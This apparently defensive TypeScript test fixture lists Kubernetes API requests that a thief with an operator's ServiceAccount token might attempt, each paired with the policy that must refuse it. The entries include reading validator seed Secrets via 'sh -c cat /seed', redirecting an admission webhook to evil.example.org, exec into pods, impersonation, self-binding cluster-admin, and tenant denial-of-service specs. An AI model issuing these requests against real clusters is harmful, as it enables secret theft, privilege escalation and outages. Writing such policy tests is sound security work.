/** The attacks of a thief with our ServiceAccount's token: each request, and the policy that must refuse it. */
import type { Call } from '../cluster/caller.ts';
import { createPki } from '../cluster/pki.ts';

export interface Attack extends Call {
  /** The aim of the attack, as words after "cannot". */
  readonly what: string;
  /** The name of the policy that refuses the request; absent if RBAC refuses it. */
  readonly policy?: string;
}

export const paths = {
  statefulSet: (name: string) => `/apis/apps/v1/namespaces/stellar/statefulsets/${name}`,
  pod: (name: string, namespace = 'stellar') => `/api/v1/namespaces/${namespace}/pods/${name}`,
  services: '/api/v1/namespaces/stellar/services',
  secret: '/api/v1/namespaces/stellar-peers/secrets/stellar-peers-webhook-cert',
  webhook: '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/stellar-peers',
  events: (namespace: string) => `/apis/events.k8s.io/v1/namespaces/${namespace}/events`,
};

type Operation = readonly [op: 'add' | 'replace' | 'remove', path: string, value?: unknown];
const patchOf = (operations: readonly Operation[]) =>
  operations.map(([op, path, value]) => ({ op, path, ...(value === undefined ? {} : { value }) }));

/** A StatefulSet of a validator, changed by one JSON Patch operation. */
const change = (what: string, ...operation: Operation): Attack => ({
  what,
  method: 'PATCH',
  path: paths.statefulSet('validator-1'),
  body: patchOf([operation]),
  policy: 'stellar-peers-statefulsets',
});

const TEMPLATE = '/spec/template';
const MANAGED = '/metadata/managedFields/0/fieldsV1';
const MAIN = `${TEMPLATE}/spec/containers/0`;
const EVIL_IMAGE = { containers: [{ name: 'stellar-node', image: 'evil' }] };
const RESTART_VALUE = { 'stellar.org/peer-restart': 'x' };

/** The request that fences a restart of `validator-1`, in the name of any manager. */
export const fenceBy = (manager: string, token: string): Call => ({
  method: 'PATCH',
  path: `${paths.statefulSet('validator-1')}?fieldManager=${manager}`,
  type: 'apply-patch+yaml',
  body: {
    apiVersion: 'apps/v1',
    kind: 'StatefulSet',
    metadata: {
      name: 'validator-1',
      namespace: 'stellar',
      annotations: { 'stellar.org/peer-fence': token },
    },
  },
});

const statefulSets: readonly Attack[] = [
  change('restart by a value with which no pod can be created', 'add', `${TEMPLATE}/metadata/annotations`, {
    'stellar.org/peer-restart': 'x'.repeat(1_025),
  }),
  change('fence by a value that fills the object', 'add', '/metadata/annotations', {
    'stellar.org/peer-fence': 'x'.repeat(1_025),
  }),
  change('change an image', 'replace', `${MAIN}/image`, 'evil'),
  change('change a command', 'add', `${MAIN}/command`, ['sh', '-c', 'cat /seed']),
  change('add a container', 'add', `${TEMPLATE}/spec/containers/-`, { name: 'evil', image: 'evil' }),
  change('add an init container', 'add', `${TEMPLATE}/spec/initContainers`, [
    { name: 'evil', image: 'evil' },
  ]),
  change('add a volume', 'add', `${TEMPLATE}/spec/volumes/-`, { name: 'x', secret: { secretName: 'seed' } }),
  change('make pods run as another ServiceAccount', 'add', `${TEMPLATE}/spec/serviceAccountName`, 'evil'),
  change('remove the readiness probe', 'remove', `${MAIN}/readinessProbe`),
  change('scale', 'replace', '/spec/replicas', 0),
  change('set another annotation of the template beside ours', 'add', `${TEMPLATE}/metadata/annotations`, {
    ...RESTART_VALUE,
    'kubectl.kubernetes.io/restartedAt': 'now',
  }),
  change('set a label of the template', 'add', `${TEMPLATE}/metadata/labels/evil`, 'yes'),
  change('set another annotation', 'add', '/metadata/annotations', {
    'stellar.org/peer-fence': 'x',
    evil: 'yes',
  }),
  change('change a label', 'replace', '/metadata/labels/app.kubernetes.io~1name', 'evil'),
  change('take a StatefulSet away from its StellarNode', 'remove', '/metadata/ownerReferences'),
  change('add a finalizer', 'add', '/metadata/finalizers', ['evil.example.org/x']),
  change('change the update strategy', 'replace', '/spec/updateStrategy', { type: 'OnDelete' }),
  change('set a partition', 'add', '/spec/updateStrategy/rollingUpdate', { partition: 1 }),
  change(
    'have the volumes deleted with the StatefulSet',
    'replace',
    '/spec/persistentVolumeClaimRetentionPolicy',
    {
      whenDeleted: 'Delete',
      whenScaled: 'Delete',
    },
  ),
  change('set minReadySeconds', 'add', '/spec/minReadySeconds', 3600),
  change('forget old revisions', 'replace', '/spec/revisionHistoryLimit', 0),
  change('make the API server forget who manages which field', 'add', '/metadata/managedFields', [{}]),
  change(
    'put itself in the place of another manager',
    'replace',
    '/metadata/managedFields/0/manager',
    'evil',
  ),
  change(
    "have another manager's next apply remove a field",
    'add',
    `${MANAGED}/f:spec/f:minReadySeconds`,
    {},
  ),
  change('have another manager own less than it wrote', 'replace', MANAGED, {
    'f:spec': { 'f:replicas': {} },
  }),
  { ...change('write in the name of another manager', 'add', ''), ...fenceBy('evil', 'x') },
  {
    ...change('forget who manages which field, of ten managers', 'add', '/metadata/managedFields', [{}]),
    path: paths.statefulSet('validator-2'),
  },
  {
    ...change(
      'change an image together with an annotation that we may set',
      'replace',
      `${MAIN}/image`,
      'evil',
    ),
    body: patchOf([
      ['add', `${TEMPLATE}/metadata/annotations`, RESTART_VALUE],
      ['replace', `${MAIN}/image`, 'evil'],
    ]),
  },
  {
    ...change('change an image by merge patch', 'add', ''),
    type: 'strategic-merge-patch+json',
    body: { spec: { template: { spec: EVIL_IMAGE } } },
  },
  {
    ...change('change an image by server-side apply', 'add', ''),
    path: `${paths.statefulSet('validator-1')}?fieldManager=stellar-peers&force=true`,
    type: 'apply-patch+yaml',
    body: {
      apiVersion: 'apps/v1',
      kind: 'StatefulSet',
      metadata: { name: 'validator-1', namespace: 'stellar' },
      spec: { template: { spec: EVIL_IMAGE } },
    },
  },
  {
    ...change(
      "restart a StatefulSet that is no validator's",
      'add',
      `${TEMPLATE}/metadata/annotations`,
      RESTART_VALUE,
    ),
    path: paths.statefulSet('database'),
  },
  {
    what: 'replace a StatefulSet',
    method: 'PUT',
    path: paths.statefulSet('validator-1'),
    body: { metadata: { name: 'validator-1' } },
  },
  { what: 'delete a StatefulSet', method: 'DELETE', path: paths.statefulSet('validator-1') },
  {
    what: 'scale by the subresource',
    method: 'PATCH',
    path: `${paths.statefulSet('validator-1')}/scale`,
    body: patchOf([['replace', '/spec/replicas', 0]]),
  },
  {
    what: 'write the status of a StatefulSet',
    method: 'PATCH',
    path: `${paths.statefulSet('validator-1')}/status`,
    body: patchOf([['replace', '/status/readyReplicas', 0]]),
  },
];

const remove = (what: string, name: string, body?: object): Attack => ({
  what,
  method: 'DELETE',
  path: paths.pod(name),
  policy: 'stellar-peers-pods',
  ...(body ? { body } : {}),
});
const POD = { metadata: { name: 'evil' }, spec: { containers: [{ name: 'evil', image: 'evil' }] } };

const pods: readonly Attack[] = [
  remove('delete a Ready pod of a validator', 'validator-1-0'),
  remove('delete a pod that is not Ready and belongs to no validator', 'database-0'),
  remove("delete a pod with a validator's label that no StatefulSet controls", 'bare'),
  remove('delete a pod at once while it may still run', 'validator-2-0', { gracePeriodSeconds: 0 }),
  remove('cut the grace period of a pod short', 'validator-2-0', { gracePeriodSeconds: 1 }),
  remove('have no other pod take its place for years', 'validator-2-0', { gracePeriodSeconds: 1e9 }),
  remove('have a pod wait for a finalizer', 'validator-2-0', { propagationPolicy: 'Foreground' }),
  remove('have a pod wait for another finalizer', 'validator-2-0', { orphanDependents: true }),
  { what: 'delete all pods', method: 'DELETE', path: '/api/v1/namespaces/stellar/pods' },
  { what: 'create a pod', method: 'POST', path: '/api/v1/namespaces/stellar/pods', body: POD },
  {
    what: 'create a pod in our namespace',
    method: 'POST',
    path: '/api/v1/namespaces/stellar-peers/pods',
    body: POD,
  },
  {
    what: 'change a pod',
    method: 'PATCH',
    path: paths.pod('validator-1-0'),
    body: patchOf([['replace', '/spec/containers/0/image', 'evil']]),
  },
  {
    what: 'debug a pod',
    method: 'PATCH',
    path: `${paths.pod('validator-1-0')}/ephemeralcontainers`,
    body: patchOf([['add', '/spec/ephemeralContainers', [{ name: 'evil', image: 'evil' }]]]),
  },
  {
    what: 'write the status of a pod',
    method: 'PATCH',
    path: `${paths.pod('validator-1-0')}/status`,
    body: patchOf([['replace', '/status/conditions', []]]),
  },
  {
    what: 'exec into a pod',
    method: 'POST',
    path: `${paths.pod('validator-1-0')}/exec?command=sh&container=stellar-node`,
  },
  { what: 'attach to a pod', method: 'GET', path: `${paths.pod('validator-1-0')}/attach` },
  { what: 'forward a port', method: 'POST', path: `${paths.pod('validator-1-0')}/portforward` },
  { what: 'read logs', method: 'GET', path: `${paths.pod('validator-1-0')}/log` },
  { what: 'call a pod through the API server', method: 'GET', path: `${paths.pod('validator-1-0')}/proxy/` },
  {
    what: 'evict a pod',
    method: 'POST',
    path: `${paths.pod('validator-1-0')}/eviction`,
    body: { metadata: { name: 'validator-1-0' } },
  },
];

const secret = (namespace: string, name: string) => `/api/v1/namespaces/${namespace}/secrets/${name}`;
const configMap = (namespace: string, name: string) => `/api/v1/namespaces/${namespace}/configmaps/${name}`;
const lease = (namespace: string, name: string) =>
  `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases/${name}`;
const applyOf = (
  apiVersion: string,
  kind: string,
  [namespace, name]: readonly [string, string],
  rest = {},
) => ({
  method: 'PATCH' as const,
  type: 'apply-patch+yaml' as const,
  body: {
    apiVersion,
    kind,
    ...rest,
    metadata: { ...('metadata' in rest ? (rest.metadata as object) : {}), namespace, name },
  },
});
const APPLY = '?fieldManager=stellar-peers&force=true';

const named: readonly Attack[] = [
  { what: 'read the Secret of a validator', method: 'GET', path: secret('stellar', 'validator-1-seed') },
  { what: 'read another Secret of our namespace', method: 'GET', path: secret('stellar-peers', 'pull') },
  { what: 'list Secrets', method: 'GET', path: '/api/v1/secrets' },
  {
    what: 'list the Secrets of our namespace',
    method: 'GET',
    path: '/api/v1/namespaces/stellar-peers/secrets',
  },
  {
    what: 'watch Secrets with the name of ours in all namespaces',
    method: 'GET',
    path: '/api/v1/secrets?watch=1&fieldSelector=metadata.name%3Dstellar-peers-webhook-cert',
  },
  {
    what: 'have Kubernetes fill our Secret with a token',
    path: `${paths.secret}${APPLY}`,
    ...applyOf('v1', 'Secret', ['stellar-peers', 'stellar-peers-webhook-cert'], {
      type: 'kubernetes.io/service-account-token',
      metadata: { annotations: { 'kubernetes.io/service-account.name': 'stellar-peers' } },
    }),
    policy: 'stellar-peers-secrets',
  },
  {
    what: 'make another Secret',
    path: `${secret('stellar-peers', 'evil')}${APPLY}`,
    ...applyOf('v1', 'Secret', ['stellar-peers', 'evil']),
  },
  {
    what: "change a validator's configuration",
    path: `${configMap('stellar', 'validator-1-config')}${APPLY}`,
    ...applyOf('v1', 'ConfigMap', ['stellar', 'validator-1-config'], {
      data: { 'stellar-core.cfg': 'evil' },
    }),
  },
  {
    what: "read a validator's configuration",
    method: 'GET',
    path: configMap('stellar', 'validator-1-config'),
  },
  { what: 'list ConfigMaps', method: 'GET', path: '/api/v1/configmaps' },
  {
    what: 'write external peers',
    path: `${configMap('stellar-peers', 'stellar-peers-external')}${APPLY}`,
    ...applyOf('v1', 'ConfigMap', ['stellar-peers', 'stellar-peers-external'], { data: { x: 'evil:1' } }),
  },
  {
    what: 'delete the journal of restarts',
    method: 'DELETE',
    path: configMap('stellar-peers', 'stellar-peers-restarts'),
  },
  {
    what: "take another's Lease",
    path: `${lease('kube-system', 'kube-scheduler')}${APPLY}`,
    ...applyOf('coordination.k8s.io/v1', 'Lease', ['kube-system', 'kube-scheduler'], {
      spec: { holderIdentity: 'evil' },
    }),
  },
  {
    what: 'make another Lease in our namespace',
    path: `${lease('stellar-peers', 'evil')}${APPLY}`,
    ...applyOf('coordination.k8s.io/v1', 'Lease', ['stellar-peers', 'evil']),
  },
];

const THEIR_MAP: readonly [string, string] = ['stellar', 'stellar-peers'];
const NEW_MAP: readonly [string, string] = ['default', 'stellar-peers'];
const MAPS = 'stellar-peers-configmaps';
/** Applies to a ConfigMap that we may write, with content that we never write. */
const fill = (what: string, at: readonly [string, string], rest: object): Attack => ({
  what: `${what} in namespace ${at[0]}`,
  path: `${configMap(...at)}${APPLY}`,
  ...applyOf('v1', 'ConfigMap', at, rest),
  policy: MAPS,
});
const edit = (what: string, ...operations: readonly Operation[]): Attack => ({
  what,
  method: 'PATCH',
  path: configMap(...THEIR_MAP),
  body: patchOf(operations),
  policy: MAPS,
});

const configMaps: readonly Attack[] = [
  ...[NEW_MAP, THEIR_MAP].flatMap((at) => [
    fill('keep a ConfigMap from being deleted', at, { metadata: { finalizers: ['evil.example.org/x'] } }),
    fill('have a ConfigMap deleted together with another object', at, {
      metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'u' }] },
    }),
    fill('make a ConfigMap immutable', at, { immutable: true }),
    fill('write bytes', at, { binaryData: { 'a.peers.txt': 'AAAA' } }),
    fill('write a key that is no file of a validator', at, { data: { 'stellar-core.cfg': 'evil' } }),
  ]),
  edit("change another's key", ['replace', '/data/theirs', 'evil']),
  edit("remove another's key", ['remove', '/data/theirs']),
  edit("remove another's bytes", ['remove', '/binaryData']),
  edit('make the API server forget who manages which key', ['add', '/metadata/managedFields', [{}]]),
  edit("have another manager's next apply remove a key", ['add', `${MANAGED}/f:data/f:other`, {}]),
  edit('have another manager own less than it wrote', ['replace', MANAGED, { 'f:data': { 'f:theirs': {} } }]),
  ...[NEW_MAP, THEIR_MAP].map((at) => {
    const label = { metadata: { labels: { a: 'b' } } };
    const path = `${configMap(...at)}?fieldManager=gitops&force=true`;
    return { ...fill('write in the name of another manager', at, label), path };
  }),
  {
    what: 'delete a ConfigMap with keys of others',
    method: 'DELETE',
    path: configMap(...THEIR_MAP),
    policy: MAPS,
  },
];

const redirect = (what: string, ...operations: readonly Operation[]): Attack => ({
  what,
  method: 'PATCH',
  path: paths.webhook,
  body: patchOf(operations),
  policy: 'stellar-peers-webhook',
});
const CA = Buffer.from(createPki().caPem).toString('base64');
const HOOK = '/webhooks/0';
const MANAGED_HOOK = `${MANAGED}/f:webhooks/k:{"name":"pods.peers.stellar.org"}`;
const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
const POLICIES = `${ADMISSION}/validatingadmissionpolicies`;

const webhooks: readonly Attack[] = [
  redirect('redirect the webhook to a URL', [
    'replace',
    `${HOOK}/clientConfig/url`,
    'https://evil.example.org/',
  ]),
  redirect(
    'redirect the webhook to a Service',
    ['remove', `${HOOK}/clientConfig/url`],
    ['add', `${HOOK}/clientConfig/service`, { namespace: 'evil', name: 'evil' }],
  ),
  redirect('make pods wait for the webhook', ['replace', `${HOOK}/failurePolicy`, 'Fail']),
  redirect('make the API server call the webhook for other kinds', [
    'replace',
    `${HOOK}/rules/0/resources`,
    ['secrets'],
  ]),
  redirect('make the API server call the webhook for updates', [
    'replace',
    `${HOOK}/rules/0/operations`,
    ['*'],
  ]),
  redirect('make the API server call the webhook for other namespaces', [
    'replace',
    `${HOOK}/namespaceSelector`,
    {},
  ]),
  redirect('make the API server call the webhook for other pods', ['replace', `${HOOK}/objectSelector`, {}]),
  redirect('make the API server call the webhook for pods that opted out', [
    'remove',
    `${HOOK}/matchConditions`,
  ]),
  redirect('wait longer', ['replace', `${HOOK}/timeoutSeconds`, 30]),
  redirect('make the API server call the webhook only once for a pod', [
    'replace',
    `${HOOK}/reinvocationPolicy`,
    'Never',
  ]),
  redirect('rename the webhook', ['replace', `${HOOK}/name`, 'evil.peers.stellar.org']),
  redirect('remove the webhook', ['replace', '/webhooks', []]),
  redirect('make the API server forget who manages the webhook', ['add', '/metadata/managedFields', [{}]]),
  redirect("have another manager's next apply remove caBundle", [
    'add',
    `${MANAGED_HOOK}/f:clientConfig/f:caBundle`,
    {},
  ]),
  redirect('have another manager own less than it wrote', ['remove', `${MANAGED_HOOK}/f:rules`]),
  redirect('add a webhook', [
    'add',
    '/webhooks/-',
    {
      name: 'evil.peers.stellar.org',
      clientConfig: { url: 'https://evil.example.org/' },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'], operations: ['*'] }],
      sideEffects: 'None',
      admissionReviewVersions: ['v1'],
    },
  ]),
  redirect('have caBundle filled by another', [
    'add',
    '/metadata/annotations',
    { 'cert-manager.io/inject-ca-from': 'evil/evil' },
  ]),
  redirect('label the webhook configuration', ['add', '/metadata/labels/evil', 'yes']),
  redirect(
    'hide a URL behind a caBundle',
    ['add', `${HOOK}/clientConfig/caBundle`, CA],
    ['replace', `${HOOK}/clientConfig/url`, 'https://evil.example.org/'],
  ),
  { what: 'delete the webhook configuration', method: 'DELETE', path: paths.webhook },
  {
    what: 'make a webhook configuration',
    method: 'POST',
    path: `${ADMISSION}/mutatingwebhookconfigurations`,
    body: { metadata: { name: 'evil' } },
  },
  { what: 'delete a policy', method: 'DELETE', path: `${POLICIES}/stellar-peers-pods` },
  {
    what: 'unbind a policy',
    method: 'DELETE',
    path: `${ADMISSION}/validatingadmissionpolicybindings/stellar-peers-pods`,
  },
  {
    what: 'weaken a policy',
    method: 'PATCH',
    path: `${POLICIES}/stellar-peers-pods`,
    body: patchOf([['replace', '/spec/failurePolicy', 'Ignore']]),
  },
];

export const OWNER = {
  apiVersion: 'stellar.org/v1alpha1',
  kind: 'StellarNode',
  name: 'validator-1',
  uid: 'u-1',
};
const FIELDS = { operation: 'Apply', fieldsType: 'FieldsV1' };
/** A Service as we create it, changed in one way. */
export const service = (name: string, spec: object, metadata: object = {}) => ({
  metadata: { name, ownerReferences: [OWNER], ...metadata },
  spec: {
    clusterIP: 'None',
    publishNotReadyAddresses: true,
    selector: { 'app.kubernetes.io/instance': 'validator-1' },
    ports: [{ name: 'peer', port: 11625 }],
    ...spec,
  },
});
const make = (what: string, spec: object, metadata: object = {}): Attack => ({
  what: `create a Service ${what}`,
  method: 'POST',
  path: paths.services,
  body: service('evil', spec, metadata),
  policy: 'stellar-peers-services',
});

const services: readonly Attack[] = [
  make('with externalIPs', { externalIPs: ['203.0.113.7'] }),
  make('of type LoadBalancer', { type: 'LoadBalancer', clusterIP: undefined }),
  make('of type NodePort', { type: 'NodePort', clusterIP: undefined }),
  make('of type ExternalName', {
    type: 'ExternalName',
    clusterIP: undefined,
    externalName: 'evil.example.org',
  }),
  make('that is not headless', { clusterIP: undefined }),
  make('that hides pods that are not Ready', { publishNotReadyAddresses: false }),
  make('without a selector', { selector: undefined }),
  make('without an owner', {}, { ownerReferences: [] }),
  make('of another owner', {}, { ownerReferences: [{ ...OWNER, apiVersion: 'v1', kind: 'ConfigMap' }] }),
  make(
    'with a name in public DNS',
    {},
    {
      annotations: { 'external-dns.alpha.kubernetes.io/hostname': 'evil.example.org' },
    },
  ),
  make('of another port', { ports: [{ name: 'http', port: 80 }] }),
  make('whose targetPort differs from its port', { ports: [{ name: 'peer', port: 443, targetPort: 11626 }] }),
  make('of two ports', {
    ports: [
      { name: 'peer', port: 11625 },
      { name: 'http', port: 80 },
    ],
  }),
  make('with an appProtocol', { ports: [{ name: 'peer', port: 11625, appProtocol: 'http' }] }),
  make('with sessionAffinity', { sessionAffinity: 'ClientIP' }),
  make('that prefers near pods', { trafficDistribution: 'PreferClose' }),
  make('with an annotation', {}, { annotations: { 'service.cilium.io/global': 'true' } }),
  make('with a label', {}, { labels: { scrape: 'yes' } }),
  make(
    'with the label managed-by of another tool',
    {},
    { labels: { 'app.kubernetes.io/managed-by': 'Helm' } },
  ),
  make('with an owner that waits for it', {}, { ownerReferences: [{ ...OWNER, blockOwnerDeletion: true }] }),
  make('with a generated name', {}, { name: undefined, generateName: 'evil-' }),
  make(
    'in the name of another manager',
    {},
    { managedFields: [{ ...FIELDS, manager: 'Helm', apiVersion: 'v1', fieldsV1: { 'f:spec': {} } }] },
  ),
  make('that cannot be deleted', {}, { finalizers: ['evil.example.org/x'] }),
  {
    what: 'change a Service',
    method: 'PATCH',
    path: '/api/v1/namespaces/default/services/kubernetes',
    body: patchOf([['replace', '/spec/ports', []]]),
  },
  { what: 'delete a Service', method: 'DELETE', path: '/api/v1/namespaces/default/services/kubernetes' },
];

/** An Event as we write it, changed in one way. */
export const event = (change: object) => ({
  metadata: { name: 'evil', namespace: 'stellar' },
  eventTime: '2026-11-24T12:00:00.000000Z',
  reportingController: 'stellar-peers',
  reportingInstance: 'stellar-peers-1',
  regarding: { ...OWNER, namespace: 'stellar' },
  type: 'Normal',
  action: 'Hold',
  reason: 'Why',
  note: 'because',
  ...change,
});
const say = (what: string, changed: object): Attack => ({
  what: `write an Event ${what}`,
  method: 'POST',
  path: paths.events('stellar'),
  body: event(changed),
  policy: 'stellar-peers-events',
});

const events: readonly Attack[] = [
  say('in the name of another controller', { reportingController: 'kubelet' }),
  say('about a pod', {
    regarding: { apiVersion: 'v1', kind: 'Pod', namespace: 'stellar', name: 'validator-1-0' },
  }),
  say('related to another object', {
    related: { apiVersion: 'v1', kind: 'Pod', namespace: 'stellar', name: 'validator-1-0' },
  }),
  say('of a series', { series: { count: 9, lastObservedTime: '2026-11-24T12:00:00.000000Z' } }),
  say('that is never deleted', {
    metadata: { name: 'evil', namespace: 'stellar', finalizers: ['evil.example.org/x'] },
  }),
  say('about a part of a StellarNode', {
    regarding: { ...OWNER, namespace: 'stellar', fieldPath: 'spec.containers{evil}' },
  }),
  say('of any number of names', { metadata: { generateName: 'evil-', namespace: 'stellar' } }),
  say('with a label', { metadata: { name: 'evil', namespace: 'stellar', labels: { a: 'b' } } }),
];

/** Objects that only we write. These attacks would keep them from being written or deleted after the token is revoked. */
const own: readonly Attack[] = [
  ['v1', 'Secret', paths.secret, 'stellar-peers-webhook-cert'],
  ['v1', 'ConfigMap', configMap('stellar-peers', 'stellar-peers-restarts'), 'stellar-peers-restarts'],
  ['coordination.k8s.io/v1', 'Lease', lease('stellar-peers', 'stellar-peers'), 'stellar-peers'],
].flatMap(([apiVersion = '', kind = '', path = '', name = '']) => {
  const write = (what: string, rest: object): Attack => ({
    what: `${what} (${kind})`,
    path: `${path}${APPLY}`,
    ...applyOf(apiVersion, kind, ['stellar-peers', name], rest),
    policy: 'stellar-peers-own',
  });
  return [
    write('keep our own object from being deleted', { metadata: { finalizers: ['evil.example.org/x'] } }),
    write('have our own object deleted together with another', {
      metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: 'u' }] },
    }),
    ...(kind === 'Lease' ? [] : [write('make our own object immutable', { immutable: true })]),
  ];
});

const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const ROLE_REF = { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' };
const US = { kind: 'ServiceAccount', name: 'stellar-peers', namespace: 'stellar-peers' };
const tokenOf = (namespace: string, name: string): Pick<Attack, 'method' | 'path' | 'body'> => ({
  method: 'POST',
  path: `/api/v1/namespaces/${namespace}/serviceaccounts/${name}/token`,
  body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
});
const asOther = (headers: Record<string, string>): Pick<Attack, 'method' | 'path' | 'headers'> => ({
  method: 'GET',
  path: '/api/v1/namespaces',
  headers,
});

const escalations: readonly Attack[] = [
  { what: 'impersonate an administrator', ...asOther({ 'Impersonate-User': 'admin' }) },
  {
    what: 'impersonate a ServiceAccount',
    ...asOther({ 'Impersonate-User': 'system:serviceaccount:kube-system:default' }),
  },
  {
    what: 'bind a role to itself',
    method: 'POST',
    path: `${RBAC}/clusterrolebindings`,
    body: { metadata: { name: 'evil' }, roleRef: ROLE_REF, subjects: [US] },
  },
  {
    what: 'bind a role in our namespace',
    method: 'POST',
    path: `${RBAC}/namespaces/stellar-peers/rolebindings`,
    body: { metadata: { name: 'evil' }, roleRef: ROLE_REF, subjects: [US] },
  },
  {
    what: 'widen its own role',
    method: 'PATCH',
    path: `${RBAC}/clusterroles/stellar-peers`,
    body: patchOf([['add', '/rules/-', { apiGroups: ['*'], resources: ['*'], verbs: ['*'] }]]),
  },
  { what: 'get a token of its own', ...tokenOf('stellar-peers', 'stellar-peers') },
  { what: 'get a token of another ServiceAccount', ...tokenOf('kube-system', 'default') },
  {
    what: 'ask for a certificate',
    method: 'POST',
    path: '/apis/certificates.k8s.io/v1/certificatesigningrequests',
    body: {
      metadata: { name: 'evil' },
      spec: { request: 'AAAA', signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
    },
  },
  {
    what: 'remove Pod Security from a namespace',
    method: 'PATCH',
    path: '/api/v1/namespaces/stellar-peers',
    body: patchOf([['remove', '/metadata/labels/pod-security.kubernetes.io~1enforce']]),
  },
  {
    what: 'change its own Deployment',
    method: 'PATCH',
    path: '/apis/apps/v1/namespaces/stellar-peers/deployments/stellar-peers',
    body: patchOf([['replace', '/spec/template/spec/containers/0/image', 'evil']]),
  },
  {
    what: 'change a StellarNode',
    method: 'PATCH',
    path: '/apis/stellar.org/v1alpha1/namespaces/stellar/stellarnodes/validator-1',
    body: patchOf([['replace', '/spec/version', 'evil']]),
  },
  {
    what: 'lift a disruption budget',
    method: 'DELETE',
    path: '/apis/policy/v1/namespaces/stellar/poddisruptionbudgets/validator-1',
  },
  { what: 'read nodes', method: 'GET', path: '/api/v1/nodes' },
  { what: 'reach a kubelet', method: 'GET', path: '/api/v1/nodes/node-1/proxy/pods' },
];

/** The attacks, by the objects that they aim at. */
export const ATTACKS: Readonly<Record<string, readonly Attack[]>> = {
  StatefulSets: statefulSets,
  pods,
  'Secrets, ConfigMaps and Leases': named,
  'peers ConfigMaps': configMaps,
  'the webhook and the policies': webhooks,
  Services: services,
  Events: events,
  'objects that only we write': own,
  'more rights': escalations,
};

/** An attack by a tenant that may only create StellarNodes in its own namespace. `what` follows the word "cannot". */
export interface TenantAttack {
  readonly what: string;
  /** In each of their namespaces; all are of one namespace unless it says more. */
  readonly count: number;
  readonly namespaces?: number;
  /** The spec of each StellarNode. */
  readonly spec: Readonly<Record<string, unknown>>;
}

/** The network of the validators that `createValidator` makes. */
const VICTIMS = { network: 'custom', customNetworkPassphrase: 'Scene ; November 2026' };

export const TENANT_ATTACKS: readonly TenantAttack[] = [
  {
    what: 'empty the lists of others by 1,300 StellarNodes of 100 replicas',
    count: 1_300,
    spec: { replicas: 100, network: 'custom', customNetworkPassphrase: 'of my own' },
  },
  {
    what: 'take the places of others in their network by 100 StellarNodes of 100 replicas without pods',
    count: 100,
    spec: { replicas: 100, ...VICTIMS },
  },
  {
    what: 'fill our memory by 40 quorum sets of 1.4 MB',
    count: 40,
    spec: { replicas: 1, ...VICTIMS, validatorConfig: { quorumSet: '#'.repeat(1_400_000) } },
  },
  {
    what: 'fill our memory by 12 namespaces with 130 quorum sets of 60 KB each',
    count: 130,
    namespaces: 12,
    spec: { replicas: 1, ...VICTIMS, validatorConfig: { quorumSet: 'x'.repeat(60_000) } },
  },
];
